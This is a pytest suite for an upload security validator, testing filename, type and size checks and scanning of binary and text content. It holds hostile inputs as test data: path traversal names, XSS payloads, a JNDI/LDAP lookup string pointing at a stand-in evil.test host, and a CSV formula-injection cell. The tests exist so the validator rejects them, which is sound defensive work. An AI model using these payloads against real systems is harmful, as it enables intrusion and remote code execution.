"""
Tests for upload security validation.

Covers structural validation (size, type, extension, filename), content
scanning of binary containers and text, the size-based policy for content
that cannot be read, and safe filename generation.
"""

import re

import pytest
from hypothesis import given, strategies as st

from compliance_guard.domain.entities.upload import UploadCandidate
from compliance_guard.domain.exceptions import BatchTooLargeError
from compliance_guard.domain.services.upload_rules import (
    CSV_MIME,
    DOCX_MIME,
    OLE_HEADER,
    PDF_MIME,
    TEXT_MIME,
    XLS_MIME,
    ZIP_LOCAL_HEADER,
    UploadRuleSet,
)
from compliance_guard.domain.services.upload_security_validator import (
    DEFAULT_MAX_FILE_SIZE,
    MiB,
    UploadSecurityValidator,
)
from tests.fixtures.subscription_fixtures import (
    MINIMAL_PDF,
    pdf_candidate,
    text_candidate,
    unreadable_candidate,
)

SAFE_NAME = re.compile(r"^[A-Za-z0-9_-]{1,50}_\d+")


@pytest.fixture
def validator() -> UploadSecurityValidator:
    return UploadSecurityValidator()


def sized(name: str, mime_type: str, size_bytes: int) -> UploadCandidate:
    """Metadata-only candidate for structural checks."""
    return UploadCandidate(name=name, mime_type=mime_type, size_bytes=size_bytes)


class TestStructuralValidation:
    """Metadata checks performed before any content is read."""

    def test_clean_pdf_is_valid(self, validator):
        candidate = pdf_candidate()

        verdict = validator.validate_file_upload(candidate)

        assert verdict.is_valid is True
        assert verdict.errors == ()
        assert verdict.sanitized_candidate is candidate

    def test_file_at_size_limit_passes(self, validator):
        verdict = validator.validate_file_upload(sized("big.pdf", PDF_MIME, DEFAULT_MAX_FILE_SIZE))

        assert verdict.is_valid is True

    def test_file_over_size_limit_fails(self, validator):
        verdict = validator.validate_file_upload(sized("big.pdf", PDF_MIME, DEFAULT_MAX_FILE_SIZE + 1))

        assert verdict.is_valid is False
        assert verdict.errors == ("File size exceeds maximum limit of 10MB",)
        assert verdict.sanitized_candidate is None

    def test_disallowed_mime_type(self, validator):
        verdict = validator.validate_file_upload(sized("photo.png", "image/png", 1024))

        assert "File type 'image/png' is not allowed" in verdict.errors

    def test_mime_type_match_is_exact(self, validator):
        verdict = validator.validate_file_upload(sized("notes.txt", "text/plain; charset=utf-8", 10))

        assert verdict.is_valid is False

    def test_executable_rejected_by_type_and_extension(self, validator):
        """Scenario: resume.exe declared as application/x-executable."""
        verdict = validator.validate_file_upload(sized("resume.exe", "application/x-executable", 1024))

        assert verdict.is_valid is False
        assert "File type 'application/x-executable' is not allowed" in verdict.errors
        assert any(".exe" in error for error in verdict.errors)

    def test_renamed_executable_with_spoofed_type_is_caught(self, validator):
        verdict = validator.validate_file_upload(sized("invoice.EXE", PDF_MIME, 1024))

        assert verdict.errors == ("File extension '.exe' is not allowed for security reasons",)

    def test_path_traversal_in_filename(self, validator):
        """Scenario: a..\\b.docx is rejected even with a valid type and size."""
        verdict = validator.validate_file_upload(sized("a..\\b.docx", DOCX_MIME, 2048))

        assert verdict.is_valid is False
        assert "Invalid path characters in filename" in verdict.errors

    @pytest.mark.parametrize("name", ["../secret.pdf", "dir/report.pdf", "dir\\report.pdf"])
    def test_path_separators_rejected(self, validator, name):
        verdict = validator.validate_file_upload(sized(name, PDF_MIME, 10))

        assert "Invalid path characters in filename" in verdict.errors

    def test_nul_byte_in_filename(self, validator):
        verdict = validator.validate_file_upload(sized("report\x00.pdf", PDF_MIME, 10))

        assert "Invalid characters in filename" in verdict.errors
        assert "Filename contains invalid characters" in verdict.errors

    def test_reserved_characters_in_filename(self, validator):
        verdict = validator.validate_file_upload(sized("what?.pdf", PDF_MIME, 10))

        assert verdict.errors == ("Filename contains invalid characters",)

    def test_overlong_filename(self, validator):
        verdict = validator.validate_file_upload(sized("a" * 300 + ".pdf", PDF_MIME, 10))

        assert "Input exceeds maximum length of 255 characters" in verdict.errors

    def test_missing_filename(self, validator):
        verdict = validator.validate_file_upload(sized("", PDF_MIME, 10))

        assert verdict.errors == ("Filename is required",)

    @pytest.mark.parametrize("name", ["   ", "\t\n"])
    def test_blank_filename(self, validator, name):
        verdict = validator.validate_file_upload(sized(name, PDF_MIME, 10))

        assert verdict.is_valid is False
        assert "Filename is required" in verdict.errors

    def test_all_errors_reported_together(self, validator):
        verdict = validator.validate_file_upload(
            sized("../payload.exe", "application/x-msdownload", DEFAULT_MAX_FILE_SIZE * 2)
        )

        assert verdict.errors == (
            "File size exceeds maximum limit of 10MB",
            "File type 'application/x-msdownload' is not allowed",
            "File extension '.exe' is not allowed for security reasons",
            "Invalid path characters in filename",
            "Filename contains invalid characters",
        )

    def test_validation_is_idempotent(self, validator):
        candidate = sized("resume.exe", "application/x-executable", 1024)

        assert validator.validate_file_upload(candidate) == validator.validate_file_upload(candidate)

    def test_custom_size_limit(self):
        validator = UploadSecurityValidator(max_file_size_bytes=2 * MiB)

        verdict = validator.validate_file_upload(sized("big.pdf", PDF_MIME, 3 * MiB))

        assert verdict.errors == ("File size exceeds maximum limit of 2MB",)

    def test_custom_rule_set(self):
        rules = UploadRuleSet(allowed_mime_types=(TEXT_MIME,))
        validator = UploadSecurityValidator(rules=rules)

        assert validator.validate_file_upload(sized("contract.pdf", PDF_MIME, 10)).is_valid is False
        assert validator.validate_file_upload(sized("notes.txt", TEXT_MIME, 10)).is_valid is True


class TestBatchValidation:
    """Batch size policy and per-file verdicts."""

    def test_verdicts_in_submission_order(self, validator):
        candidates = [pdf_candidate("a.pdf"), sized("b.exe", "application/x-executable", 10), text_candidate()]

        verdicts = validator.validate_batch(candidates)

        assert [v.is_valid for v in verdicts] == [True, False, True]

    def test_batch_at_limit_is_accepted(self, validator):
        assert len(validator.validate_batch([pdf_candidate(f"f{i}.pdf") for i in range(10)])) == 10

    def test_batch_over_limit_raises(self, validator):
        with pytest.raises(BatchTooLargeError) as exc_info:
            validator.validate_batch([pdf_candidate(f"f{i}.pdf") for i in range(11)])

        assert exc_info.value.file_count == 11
        assert exc_info.value.max_files == 10


class TestBinaryContentScan:
    """Signature checks for PDF and Office containers."""

    async def test_clean_pdf_is_safe(self, validator):
        assert await validator.scan_file_content(pdf_candidate()) is True

    async def test_two_megabyte_pdf_is_accepted(self, validator):
        """Scenario: a 2 MB PDF with a clean name passes both gates."""
        content = MINIMAL_PDF + b" " * (2 * MiB - len(MINIMAL_PDF))
        candidate = pdf_candidate("contract.pdf", content)

        assert validator.validate_file_upload(candidate).is_valid is True
        outcome = await validator.inspect_content(candidate)
        assert outcome.is_safe is True
        assert outcome.indeterminate is False

    async def test_signature_mismatch(self, validator):
        outcome = await validator.inspect_content(pdf_candidate(content=b"just some text"))

        assert outcome.is_safe is False
        assert outcome.reason == "File signature does not match declared type 'application/pdf'"

    @pytest.mark.parametrize(
        "payload,reason",
        [
            (b"MZ\x90\x00\x03\x00", "Embedded Windows executable detected"),
            (b"\x7fELF\x02\x01", "Embedded Linux executable detected"),
            (b"\xCF\xFA\xED\xFE", "Embedded Mach-O executable detected"),
            (b"\xCA\xFE\xBA\xBE", "Embedded universal binary detected"),
        ],
    )
    async def test_embedded_executable_in_pdf(self, validator, payload, reason):
        outcome = await validator.inspect_content(pdf_candidate(content=MINIMAL_PDF + payload))

        assert outcome.is_safe is False
        assert outcome.reason == reason

    async def test_docx_with_zip_header_is_safe(self, validator):
        candidate = UploadCandidate.from_bytes("report.docx", DOCX_MIME, ZIP_LOCAL_HEADER + b"\x14\x00word/")

        assert await validator.scan_file_content(candidate) is True

    async def test_xls_requires_ole_header(self, validator):
        good = UploadCandidate.from_bytes("sheet.xls", XLS_MIME, OLE_HEADER + b"\x00" * 16)
        bad = UploadCandidate.from_bytes("sheet.xls", XLS_MIME, ZIP_LOCAL_HEADER + b"\x00" * 16)

        assert await validator.scan_file_content(good) is True
        assert await validator.scan_file_content(bad) is False


class TestTextContentScan:
    """Threat patterns and decoding of text uploads."""

    async def test_plain_text_is_safe(self, validator):
        assert await validator.scan_file_content(text_candidate()) is True

    async def test_script_tag_passes_validation_but_fails_scan(self, validator):
        """Scenario: notes.txt containing a script tag."""
        candidate = text_candidate("notes.txt", b"Meeting notes <script>alert(1)</script>")

        assert validator.validate_file_upload(candidate).is_valid is True
        outcome = await validator.inspect_content(candidate)
        assert outcome.is_safe is False
        assert outcome.reason == "Script tag detected"

    @pytest.mark.parametrize(
        "content,reason",
        [
            (b"click javascript:alert(1)", "JavaScript URL scheme detected"),
            (b'<img src=x onerror="steal()">', "Inline event handler detected"),
            (b"<iframe src='https://evil.test'>", "Embedded frame or form element detected"),
            (b"x = eval(payload)", "eval() call detected"),
            (b"see ../../etc/passwd", "Directory traversal pattern detected"),
            (b"user=${jndi:ldap://evil.test/a}", "Template interpolation detected"),
            (b"%3Cscript%3E", "URL-encoded script tag detected"),
        ],
    )
    async def test_threat_patterns(self, validator, content, reason):
        outcome = await validator.inspect_content(text_candidate(content=content))

        assert outcome.is_safe is False
        assert outcome.reason == reason

    async def test_csv_is_scanned_as_text(self, validator):
        candidate = UploadCandidate.from_bytes("data.csv", CSV_MIME, b'name,value\n"a","=eval(1)"\n')

        assert await validator.scan_file_content(candidate) is False

    async def test_multibyte_text_is_not_padding(self, validator):
        candidate = text_candidate(content="Überprüfung der Verträge".encode("utf-8"))

        assert await validator.scan_file_content(candidate) is True

    @pytest.mark.parametrize("text", ["\U0001F600" * 20, "\U00020000\U00020001 contract terms", "合同条款审查"])
    async def test_four_and_three_byte_characters_are_not_padding(self, validator, text):
        outcome = await validator.inspect_content(text_candidate(content=text.encode("utf-8")))

        assert outcome.is_safe is True
        assert outcome.indeterminate is False

    async def test_declared_size_far_above_content_is_unsafe(self, validator):
        content = b"short note"

        async def _read() -> bytes:
            return content

        candidate = UploadCandidate(
            name="notes.txt", mime_type=TEXT_MIME, size_bytes=len(content) * 4, reader=_read
        )

        outcome = await validator.inspect_content(candidate)

        assert outcome.is_safe is False
        assert outcome.reason == "File size inconsistent with decoded content"

    async def test_small_invalid_utf8_is_allowed(self, validator):
        outcome = await validator.inspect_content(text_candidate(content=b"caf\xe9 notes"))

        assert outcome.is_safe is True
        assert outcome.indeterminate is True

    async def test_large_invalid_utf8_is_rejected(self):
        validator = UploadSecurityValidator(scan_fail_open_max_bytes=8)

        outcome = await validator.inspect_content(text_candidate(content=b"caf\xe9 notes and more"))

        assert outcome.is_safe is False
        assert outcome.indeterminate is True
        assert outcome.reason.startswith("Content could not be verified")


class TestIndeterminateScan:
    """Unreadable content is resolved by size."""

    async def test_unreadable_small_file_is_allowed(self, validator):
        outcome = await validator.inspect_content(unreadable_candidate("notes.txt", TEXT_MIME, MiB - 1))

        assert outcome.is_safe is True
        assert outcome.indeterminate is True

    async def test_unreadable_file_at_threshold_is_rejected(self, validator):
        outcome = await validator.inspect_content(unreadable_candidate("contract.pdf", PDF_MIME, MiB))

        assert outcome.is_safe is False
        assert outcome.indeterminate is True
        assert "device not ready" in outcome.reason

    async def test_candidate_without_reader(self, validator):
        assert await validator.scan_file_content(sized("contract.pdf", PDF_MIME, 5 * MiB)) is False

    async def test_scanner_fault_never_raises(self, validator):
        async def _broken() -> bytes:
            raise RuntimeError("decoder crashed")

        candidate = UploadCandidate(name="notes.txt", mime_type=TEXT_MIME, size_bytes=100, reader=_broken)

        outcome = await validator.inspect_content(candidate)

        assert outcome.is_safe is True
        assert outcome.indeterminate is True


class TestSafeFilename:
    """Storage name generation."""

    def test_strips_unsafe_characters(self, validator):
        name = validator.generate_safe_filename("Q3 report (final).pdf", now_ms=1700000000000)

        assert name == "Q3reportfinal_1700000000000.pdf"

    def test_truncates_base(self, validator):
        name = validator.generate_safe_filename("x" * 80 + ".docx", now_ms=1)

        assert name == "x" * 50 + "_1.docx"

    def test_keeps_extension_as_supplied(self, validator):
        assert validator.generate_safe_filename("Scan.PDF", now_ms=5) == "Scan_5.PDF"

    def test_fallback_base(self, validator):
        assert validator.generate_safe_filename("(((.txt", now_ms=7) == "document_7.txt"

    def test_no_extension(self, validator):
        assert validator.generate_safe_filename("README", now_ms=9) == "README_9"

    def test_same_millisecond_collides(self, validator):
        first = validator.generate_safe_filename("report.pdf", now_ms=42)
        second = validator.generate_safe_filename("report.pdf", now_ms=42)

        assert first == second

    def test_uses_clock_by_default(self, validator):
        assert SAFE_NAME.match(validator.generate_safe_filename("report.pdf"))


class TestUploadPolicy:
    def test_policy_reflects_configuration(self):
        validator = UploadSecurityValidator(max_file_size_bytes=5 * MiB, max_files_per_batch=3)

        policy = validator.get_upload_policy()

        assert policy.max_file_size == 5 * MiB
        assert policy.max_files == 3
        assert PDF_MIME in policy.allowed_types
        assert policy.enable_content_scanning is True

    async def test_health(self, validator):
        health = await validator.check_health()

        assert health["status"] == "healthy"
        assert health["executable_signatures"] == 7


class TestValidatorPropertyBased:
    """Property-based tests using Hypothesis."""

    @given(body=st.text(alphabet="abcdefghijklmnopqrstuvwxyz \n", max_size=200))
    def test_clean_pdf_always_valid(self, body: str):
        """Property: a PDF with a clean name and no executable signature validates."""
        validator = UploadSecurityValidator()
        candidate = pdf_candidate("contract.pdf", MINIMAL_PDF + body.encode("ascii"))

        assert validator.validate_file_upload(candidate).is_valid is True

    @given(name=st.text(max_size=120))
    def test_safe_filename_shape(self, name: str):
        """Property: the generated base only holds safe characters."""
        result = UploadSecurityValidator().generate_safe_filename(name, now_ms=1234)

        dot = name.rfind(".")
        extension = name[dot:] if dot != -1 else ""
        assert result.endswith("_1234" + extension)
        assert SAFE_NAME.match(result)

    @given(size=st.integers(min_value=0, max_value=3 * DEFAULT_MAX_FILE_SIZE))
    def test_size_rule_matches_limit(self, size: int):
        """Property: the size error appears exactly when the limit is exceeded."""
        verdict = UploadSecurityValidator().validate_file_upload(sized("report.pdf", PDF_MIME, size))

        assert (size > DEFAULT_MAX_FILE_SIZE) == ("File size exceeds maximum limit of 10MB" in verdict.errors)
